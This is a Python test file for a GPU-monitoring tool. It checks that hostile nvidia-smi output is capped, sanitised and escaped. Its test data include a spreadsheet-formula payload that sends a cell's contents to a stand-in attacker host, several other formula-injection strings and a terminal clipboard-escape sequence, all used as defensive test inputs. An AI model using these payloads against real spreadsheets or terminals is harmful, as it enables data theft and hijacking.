"""Bounds on what a (possibly hostile) host's nvidia-smi output can cost: GPUs per
sample and per host, rings released, line length, a huge GPU index, archive rows per host and minute,
one host's bad data never breaking another's archive, and the CSV export never carrying a formula."""

from __future__ import annotations

import csv
from datetime import datetime, timedelta, timezone

import pytest

from app.core.gpuhistory import GpuHistory, MinuteArchive, export_csv
from app.core.gpumon import (
    MAX_GPUS_PER_HOST,
    MAX_LINE_BYTES,
    QUERY_FIELDS,
    GpuParseError,
    GpuReading,
    HostSample,
    LineSplitter,
    SampleAssembler,
    parse_gpu_line,
)
from app.core.store import Store
from tests.fixtures.fake_nvidia_smi import a100

T0 = datetime(2026, 12, 1, 12, 0, tzinfo=timezone.utc)


def line(rec: dict) -> str:
    return ", ".join(str(rec.get(f, "[N/A]")) for f in QUERY_FIELDS)


def fresh(i: int) -> str:
    rec = a100(i % 8, 50)
    rec["uuid"] = f"GPU-{i:08x}-0000-4000-8000-000000000000"
    return line(rec)


def reading(uuid: str, util: float | None = 10.0, index: int | None = 0) -> GpuReading:
    return GpuReading(uuid=uuid, index=index, name="A100", utilization_gpu=util, memory_used_mib=1.0,
                      memory_total_mib=81920.0, temperature_c=50.0, power_w=None, power_limit_w=400.0)


class Clock:
    def __init__(self) -> None:
        self.t = T0

    def __call__(self) -> datetime:
        return self.t


# -- lines ------------------------------------------------------------------------------------------

def test_an_endless_line_is_cut_at_the_cap_and_the_stream_goes_on():
    sp = LineSplitter()
    out: list[str] = []
    held = 0
    for _ in range(2048):  # 2 MiB of one line, 1 KiB at a time (as a slow link delivers it)
        out += sp.feed(b"x" * 1024)
        held = max(held, sp.buffered)
    out += sp.feed(b"y" * 10 + b"\n" + line(a100(0, 5)).encode() + b"\n")
    assert held <= MAX_LINE_BYTES  # never more than one capped line in memory
    assert sp.cut_lines == 1
    assert out[0] == "x" * MAX_LINE_BYTES  # the first 4 KiB kept (an error message starts there)
    assert out[1:] == [line(a100(0, 5))]  # the rest of the endless line dropped, the next line read
    assert parse_gpu_line(out[1]).utilization_gpu == 5.0


def test_line_pieces_join_across_chunks():
    sp = LineSplitter()
    text = (line(a100(0, 1)) + "\n" + line(a100(1, 2)) + "\n").encode()
    got: list[str] = []
    for i in range(0, len(text), 7):
        got += sp.feed(text[i:i + 7])
    assert got == [line(a100(0, 1)), line(a100(1, 2))] and sp.rest() == ""


# -- GPUs per sample and per host -------------------------------------------------------------------

def test_a_sample_over_the_gpu_cap_keeps_the_first_64_and_says_the_host_is_suspicious():
    asm = SampleAssembler(host="evil", clock=Clock())
    for i in range(MAX_GPUS_PER_HOST + 10):
        assert asm.feed(fresh(i)) is None
    s = asm.flush()
    assert s is not None and len(s.gpus) == MAX_GPUS_PER_HOST
    assert s.error is not None and "evil reports more GPUs than any real machine has (over 64)" in s.error
    assert "10 of them were ignored" in s.error and "compromised" in s.error
    assert asm.suspicious


def test_fresh_uuids_every_second_never_grow_the_known_set_and_old_ones_are_forgotten():
    clock = Clock()
    asm = SampleAssembler(host="evil", clock=clock, forget_after_s=600)
    samples = []
    for sec in range(60):  # 64 fresh uuids a second for a minute
        clock.t = T0 + timedelta(seconds=sec)
        for j in range(64):
            s = asm.feed(fresh(sec * 64 + j))
            if s is not None:
                samples.append(s)
        s = asm.flush()
        if s is not None:
            samples.append(s)
        assert len(asm.known) <= MAX_GPUS_PER_HOST
    assert asm.dropped_total == 59 * 64
    assert all(s.error and "reports more GPUs" in s.error for s in samples[1:])
    # ten minutes later the first host's uuids have not been seen: new ones get their place
    clock.t = T0 + timedelta(seconds=700)
    asm.feed(fresh(10**6))
    s = asm.flush()
    assert s is not None and s.error is None and [g.uuid for g in s.gpus] == [fresh(10**6).split(", ")[1]]


def test_a_flood_of_extra_uuids_without_a_pause_still_ends_samples():
    asm = SampleAssembler(host="evil", clock=Clock())
    for i in range(MAX_GPUS_PER_HOST):
        asm.feed(fresh(i))
    out = [s for i in range(MAX_GPUS_PER_HOST, 10 * MAX_GPUS_PER_HOST) if (s := asm.feed(fresh(i)))]
    assert out and asm.pending() <= MAX_GPUS_PER_HOST * 2


@pytest.mark.parametrize("index", ["100000000000000000000000000000", "1e30", "1.5", "256"])
def test_a_huge_gpu_index_is_refused_per_row(index):
    rec = a100(0, 50)
    rec["index"] = index
    with pytest.raises(GpuParseError):
        parse_gpu_line(line(rec))
    asm = SampleAssembler(host="h", clock=Clock())
    asm.feed(line(rec))
    asm.feed(line(a100(1, 40)))
    s = asm.flush()
    assert s is not None and [g.index for g in s.gpus] == [1]


def test_control_characters_and_overlong_names_are_not_kept():
    rec = a100(0, 50)
    rec["name"] = "A100\x1b]52;c;ZXZpbA==\x07" + "n" * 1000
    g = parse_gpu_line(line(rec))
    assert g.name is not None and "\x1b" not in g.name and "\x07" not in g.name and len(g.name) <= 128
    rec = a100(0, 50)
    rec["uuid"] = "GPU-\x1b[2J"
    with pytest.raises(GpuParseError):
        parse_gpu_line(line(rec))


# -- rings ------------------------------------------------------------------------------------------

def test_rings_are_capped_per_host_and_released_when_unseen():
    h = GpuHistory(capacity_s=10, max_gpus=4, release_after_s=60)
    for i in range(10):
        h.append(HostSample("evil", T0 + timedelta(seconds=i), None, (reading(f"GPU-{i}"),)))
    h.append(HostSample("good", T0, None, (reading("GPU-g"),)))
    assert len(h.gpus("evil")) == 4 and h.dropped("evil") == 6
    assert [g.uuid for g in h.gpus("good")] == ["GPU-g"]  # another host is not limited by this one
    # 2 minutes later the first four have not reported: their rings go, a new GPU gets one
    h.append(HostSample("evil", T0 + timedelta(seconds=130), None, (reading("GPU-new"),)))
    assert [g.uuid for g in h.gpus("evil")] == ["GPU-new"]


def test_an_infinite_value_is_a_gap_not_a_crash():
    h = GpuHistory(capacity_s=4)
    h.append(HostSample("h", T0, None, (reading("GPU-a", util=1e300),)))
    _t, v = h.series("h", "GPU-a", "utilization_gpu")
    assert len(v) == 1 and v[0] != v[0]  # NaN


# -- the minute archive -----------------------------------------------------------------------------

def test_one_hosts_huge_index_never_breaks_another_hosts_archive(tmp_path):
    store = Store(tmp_path / "s.db")
    arch = MinuteArchive(store)
    arch.add(HostSample("good", T0, None, (reading("GPU-g", 30.0, 0),)))
    arch.add(HostSample("evil", T0, None, (reading("GPU-e", 30.0, 10**30),)))  # e.g. from an older parser
    arch.flush()
    rows = store.query("SELECT host, uuid, gpu_index FROM gpu_minutes ORDER BY host")
    assert [(r["host"], r["uuid"], r["gpu_index"]) for r in rows] == [("evil", "GPU-e", None), ("good", "GPU-g", 0)]


def test_archive_rows_per_host_per_minute_are_capped(tmp_path):
    store = Store(tmp_path / "s.db")
    arch = MinuteArchive(store, max_gpus=8)
    for sec in range(60):
        arch.add(HostSample("evil", T0 + timedelta(seconds=sec), None,
                            tuple(reading(f"GPU-{sec}-{j}") for j in range(8))))
    arch.add(HostSample("good", T0, None, (reading("GPU-g"),)))
    arch.flush()
    counts = {r["host"]: r["n"] for r in store.query("SELECT host, COUNT(*) AS n FROM gpu_minutes GROUP BY host")}
    assert counts == {"evil": 8, "good": 1}
    assert arch.dropped == 59 * 8


# -- CSV export -------------------------------------------------------------------------------------

@pytest.mark.parametrize("uuid", ['=HYPERLINK("http://evil.example/?"&A1,"GPU-0")', "+1+1", "-2+3", "@SUM(1)",
                                  "\tGPU-x", "\rGPU-x"])
def test_a_uuid_never_lands_in_the_csv_as_a_formula(tmp_path, uuid):
    h = GpuHistory(capacity_s=4)
    h.append(HostSample("=host", T0, None, (reading(uuid), reading("GPU-plain", index=1))))
    out = tmp_path / "x.csv"
    assert export_csv(out, h, None, "=host", T0.timestamp() - 1, T0.timestamp() + 1) == 2
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = {r["gpu_uuid"] for r in rows}
    assert cells == {"'" + uuid, "GPU-plain"}
    assert {r["host"] for r in rows} == {"'=host"}
    assert rows[0]["utilization_gpu"] == "10"  # numbers stay numbers
